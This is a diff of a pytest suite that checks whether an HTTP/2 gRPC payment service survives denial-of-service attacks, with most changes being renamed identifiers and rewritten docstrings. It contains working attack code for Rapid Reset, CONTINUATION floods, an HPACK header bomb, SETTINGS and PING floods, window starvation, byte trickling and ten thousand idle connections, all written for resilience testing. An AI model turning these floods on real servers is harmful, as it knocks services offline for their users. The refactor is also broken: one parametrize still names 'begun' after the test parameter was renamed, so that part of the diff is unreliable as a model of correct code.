@@ -1,4 +1,4 @@
-"""What clients may do to wear out a server of HTTP/2: meanwhile it serves others, and afterwards all is as it was."""
+"""Attacks on HTTP/2 servers: the service still serves other clients, and afterwards its resources are released."""
 
 import resource
 import socket
@@ -25,34 +25,34 @@ Attack = Callable[[int, threading.Event], None]
 _LIST_PATH = "/payments.v1.PaymentService/ListPayments"
 _LIST = pb.ListPaymentsRequest(page_size=1000).SerializeToString()
 _STREAMS = range(1, 2 * 20_000, 2)
-_AT_ONCE = 200
+_STREAMS_PER_CONNECTION = 200
 _CANCEL = (8).to_bytes(4, "big")
 _MAX_GROWTH_KIB = 400 * 1024
 _IDLE_CONNECTIONS = 10_000
-_FILES_BESIDES = 500
+_RESERVED_FILES = 500
 _SETTLED_SECONDS = 30
 
 
 @pytest.fixture(params=list(Engine))
 def running(request: pytest.FixtureRequest, start_service: StartService) -> RunningService:
-    """A service that waits long for its database, which is slow while everybody wants the processor."""
+    """A service with long database timeouts, because the attacks slow the whole machine down."""
     patience = dict.fromkeys(("MYSQL_ACQUIRE_TIMEOUT_SECONDS", "MYSQL_CONNECT_TIMEOUT_SECONDS"), "60")
     return start_service(GRPC_ENGINE=request.param, **patience)
 
 
 def memory_kib(service: RunningService) -> int:
-    """Return how much memory the server has."""
+    """Return the resident memory of the server."""
     status = Path(f"/proc/{service.process_id}/status").read_text()
     return int(next(line for line in status.splitlines() if line.startswith("VmRSS")).split()[1])
 
 
 def open_files(service: RunningService) -> int:
-    """Return how many files and connections the server has open."""
+    """Return the number of open files and connections of the server."""
     return len(list(Path(f"/proc/{service.process_id}/fd").iterdir()))
 
 
 def charge_some(service: RunningService, count: int = 5) -> None:
-    """Be a client that does nothing wrong, on a connection of its own: it tries again what is refused for overload."""
+    """Make charges as a well-behaved client on its own connection, which retries when the service is overloaded."""
     with grpc.insecure_channel(service.target) as channel:
         api = GrpcDriver(channel)
         done, deadline = 0, time.monotonic() + _SETTLED_SECONDS
@@ -67,50 +67,50 @@ def charge_some(service: RunningService, count: int = 5) -> None:
 
 
 @contextmanager
-def nothing_lost(service: RunningService) -> Iterator[None]:
-    """Check that others are served after what happens inside, and that it costs neither memory nor files."""
+def no_lasting_harm(service: RunningService) -> Iterator[None]:
+    """Check that other clients are served after the context, and that memory and files are released."""
     charge_some(service)
     files, memory = open_files(service), memory_kib(service)
     yield
     started = time.monotonic()
     charge_some(service)
-    print(  # noqa: T201 - measured and shown, not asserted to the letter
+    print(  # noqa: T201 - measurements to look at, which are asserted only roughly
         f"{service.engine}: {memory} to {memory_kib(service)} KiB, {files} to {open_files(service)} files, "
-        f"{time.monotonic() - started:.2f} s for others' charges afterwards"
+        f"{time.monotonic() - started:.2f} s for charges of other clients afterwards"
     )
-    # What was on its way when it ended is dealt with first: how much that is, is up to the machine.
+    # The server first has to process what is still in its buffers, which depends on the machine.
     deadline = time.monotonic() + _SETTLED_SECONDS
     while open_files(service) > files + 20 or memory_kib(service) - memory > _MAX_GROWTH_KIB:
-        told = f"{memory} to {memory_kib(service)} KiB, {files} to {open_files(service)} files"
-        assert time.monotonic() < deadline, told
+        growth = f"{memory} to {memory_kib(service)} KiB, {files} to {open_files(service)} files"
+        assert time.monotonic() < deadline, growth
         time.sleep(0.2)
 
 
 def rapid_reset(port: int, stop: threading.Event) -> None:
-    """Begin requests and cancel them at once, which costs the server more than the client (CVE-2023-44487)."""
+    """Start requests and cancel them immediately, which costs the server more than the client (CVE-2023-44487)."""
     with Http2Peer(port, timeout_seconds=5) as peer:
         headers = request_headers(_LIST_PATH)
         for stream in _STREAMS:
-            begun = frame(http2_peer.HEADERS, headers, flags=http2_peer.END_HEADERS, stream=stream)
-            asked = frame(http2_peer.DATA, b"\0\0\0\0\0", flags=http2_peer.END_STREAM, stream=stream)
-            peer.send_raw(begun + asked + frame(http2_peer.RST_STREAM, _CANCEL, stream=stream))
+            headers_frame = frame(http2_peer.HEADERS, headers, flags=http2_peer.END_HEADERS, stream=stream)
+            data_frame = frame(http2_peer.DATA, b"\0\0\0\0\0", flags=http2_peer.END_STREAM, stream=stream)
+            peer.send_raw(headers_frame + data_frame + frame(http2_peer.RST_STREAM, _CANCEL, stream=stream))
             if stop.is_set():
                 return
 
 
 def reset_before_the_body(port: int, stop: threading.Event) -> None:
-    """Cancel requests of which only the headers were sent."""
+    """Cancel requests after their headers."""
     with Http2Peer(port, timeout_seconds=5) as peer:
         headers = request_headers(_LIST_PATH)
         for stream in _STREAMS:
-            begun = frame(http2_peer.HEADERS, headers, flags=http2_peer.END_HEADERS, stream=stream)
-            peer.send_raw(begun + frame(http2_peer.RST_STREAM, _CANCEL, stream=stream))
+            headers_frame = frame(http2_peer.HEADERS, headers, flags=http2_peer.END_HEADERS, stream=stream)
+            peer.send_raw(headers_frame + frame(http2_peer.RST_STREAM, _CANCEL, stream=stream))
             if stop.is_set():
                 return
 
 
 def continuation_flood(port: int, stop: threading.Event) -> None:
-    """Send headers that never end (CVE-2024-27316): 32 MB of them, and not as many as this machine can."""
+    """Send 32 MB of headers that never end (CVE-2024-27316)."""
     literal = b"\0\x7f\0" + b"n" * 127 + b"\0"
     with Http2Peer(port, timeout_seconds=5) as peer:
         peer.send(http2_peer.HEADERS, request_headers(_LIST_PATH), stream=1)
@@ -122,7 +122,7 @@ def continuation_flood(port: int, stop: threading.Event) -> None:
 
 
 def empty_continuation_flood(port: int, stop: threading.Event) -> None:
-    """Send headers that never end, and never grow."""
+    """Send empty continuations of headers that never end."""
     with Http2Peer(port, timeout_seconds=5) as peer:
         peer.send(http2_peer.HEADERS, request_headers(_LIST_PATH), stream=1)
         while not stop.is_set():
@@ -130,24 +130,24 @@ def empty_continuation_flood(port: int, stop: threading.Event) -> None:
 
 
 def header_bomb(port: int, stop: threading.Event) -> None:
-    """Name one large header, kept in the table, many times over: each takes a byte to send (CVE-2016-6581)."""
-    size = 3_800 - 127  # how RFC 7541, section 5.1, writes a number above 126
-    kept = b"\x40\x01x\x7f" + bytes([0x80 | size & 0x7F, size >> 7]) + b"v" * 3_800
+    """Repeat a large header from the HPACK table, with one byte for each repetition (CVE-2016-6581)."""
+    size = 3_800 - 127  # RFC 7541, section 5.1, encodes numbers above 126 this way
+    stored = b"\x40\x01x\x7f" + bytes([0x80 | size & 0x7F, size >> 7]) + b"v" * 3_800
     with Http2Peer(port, timeout_seconds=5) as peer:
         for stream in range(1, 200, 2):
-            block = request_headers(_LIST_PATH) + kept + b"\xbe" * 12_000
+            block = request_headers(_LIST_PATH) + stored + b"\xbe" * 12_000
             peer.send(http2_peer.HEADERS, block, flags=http2_peer.END_HEADERS, stream=stream)
             if stop.is_set():
                 return
 
 
 def settings_flood(port: int, stop: threading.Event) -> None:
-    """Send settings, each of which wants an answer, and read none (CVE-2019-9515)."""
+    """Send settings and never read the acknowledgments (CVE-2019-9515)."""
     _flood(port, stop, frame(http2_peer.SETTINGS, b"\0\4\0\0\xff\xff"))
 
 
 def ping_flood(port: int, stop: threading.Event) -> None:
-    """Ask for signs of life, and read none (CVE-2019-9512)."""
+    """Send pings and never read the acknowledgments (CVE-2019-9512)."""
     _flood(port, stop, frame(http2_peer.PING, b"12345678"))
 
 
@@ -158,24 +158,24 @@ def _flood(port: int, stop: threading.Event, one: bytes) -> None:
 
 
 def half_requests(port: int, stop: threading.Event) -> None:
-    """Begin as many requests as a connection may have, and end none."""
+    """Start many requests on a connection, and finish none."""
     with Http2Peer(port) as peer:
-        for stream in range(1, 2 * _AT_ONCE, 2):
+        for stream in range(1, 2 * _STREAMS_PER_CONNECTION, 2):
             peer.send(http2_peer.HEADERS, request_headers(_LIST_PATH), flags=http2_peer.END_HEADERS, stream=stream)
             peer.send(http2_peer.DATA, b"\0\0\0\1\0" + b"x" * 10, stream=stream)
         stop.wait()
 
 
 def reading_nothing(port: int, stop: threading.Event) -> None:
-    """Ask for long lists, and open no window for any (CVE-2019-9517)."""
+    """Request long lists without opening a window for the responses (CVE-2019-9517)."""
     with Http2Peer(port, {http2_peer.INITIAL_WINDOW_SIZE: 0}) as peer:
-        for stream in range(1, 2 * _AT_ONCE, 2):
+        for stream in range(1, 2 * _STREAMS_PER_CONNECTION, 2):
             peer.request(_LIST_PATH, _LIST, stream=stream)
         stop.wait()
 
 
 def trickle(port: int, stop: threading.Event) -> None:
-    """Send the beginning of HTTP/2 byte for byte."""
+    """Send the HTTP/2 preface one byte at a time."""
     with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
         for byte in http2_peer.PREFACE[:-1]:
             connection.sendall(bytes([byte]))
@@ -195,21 +195,19 @@ ATTACKS: list[tuple[Attack, int]] = [
     (reading_nothing, 10),
     (trickle, 100),
 ]
-"""Each with how many connections do it at the same time."""
+"""Each attack, and its number of concurrent connections."""
 
 
 @pytest.mark.parametrize(("attack", "connections"), ATTACKS, ids=[attack.__name__ for attack, _ in ATTACKS])
-def test_others_are_served_while_clients_try_to_wear_out_the_server(
-    running: RunningService, attack: Attack, connections: int
-) -> None:
+def test_other_clients_are_served_during_an_attack(running: RunningService, attack: Attack, connections: int) -> None:
     stop = threading.Event()
 
-    def be_hung_up_on() -> None:
-        with suppress(OSError):  # which is what the server should do to some of them
+    def run_attack() -> None:
+        with suppress(OSError):  # the server should close some of these connections
             attack(running.port, stop)
 
-    with nothing_lost(running):
-        threads = [threading.Thread(target=be_hung_up_on) for _ in range(connections)]
+    with no_lasting_harm(running):
+        threads = [threading.Thread(target=run_attack) for _ in range(connections)]
         for thread in threads:
             thread.start()
         try:
@@ -223,28 +221,28 @@ def test_others_are_served_while_clients_try_to_wear_out_the_server(
 
 
 @pytest.fixture
-def many_files() -> Iterator[int]:
-    """Let this process open as many connections as it may, and say how many those of a test may be."""
+def max_connections() -> Iterator[int]:
+    """Raise this process's limit on open files, and return the number of connections that a test can open."""
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    yield min(_IDLE_CONNECTIONS, hard - _FILES_BESIDES) if hard != resource.RLIM_INFINITY else _IDLE_CONNECTIONS
+    yield min(_IDLE_CONNECTIONS, hard - _RESERVED_FILES) if hard != resource.RLIM_INFINITY else _IDLE_CONNECTIONS
     resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
 
 
 @pytest.mark.parametrize("begun", [b"", http2_peer.PREFACE + frame(http2_peer.SETTINGS)], ids=["mute", "idle"])
-def test_others_are_served_while_ten_thousand_connections_do_nothing(
-    running: RunningService, many_files: int, begun: bytes
+def test_other_clients_are_served_during_ten_thousand_idle_connections(
+    running: RunningService, max_connections: int, headers_frame: bytes
 ) -> None:
-    with nothing_lost(running), ExitStack() as stack:
-        for _ in range(many_files):
+    with no_lasting_harm(running), ExitStack() as stack:
+        for _ in range(max_connections):
             connection = stack.enter_context(socket.create_connection(("127.0.0.1", running.port), timeout=30))
-            connection.sendall(begun)
+            connection.sendall(headers_frame)
         charge_some(running)
 
 
-def test_headers_over_the_limit_leave_nothing_behind(running: RunningService, request: pytest.FixtureRequest) -> None:
+def test_headers_above_the_limit_leak_no_memory(running: RunningService, request: pytest.FixtureRequest) -> None:
     if running.engine is Engine.GRPCIO:
-        reason = "grpcio 1.85.1 keeps some 25 KiB of each call whose headers were over the limit"
+        reason = "grpcio 1.85.1 leaks about 25 KiB for each call whose headers exceed the limit"
         request.applymarker(pytest.mark.xfail(strict=True, reason=reason))
     memories = []
     for _ in range(3):
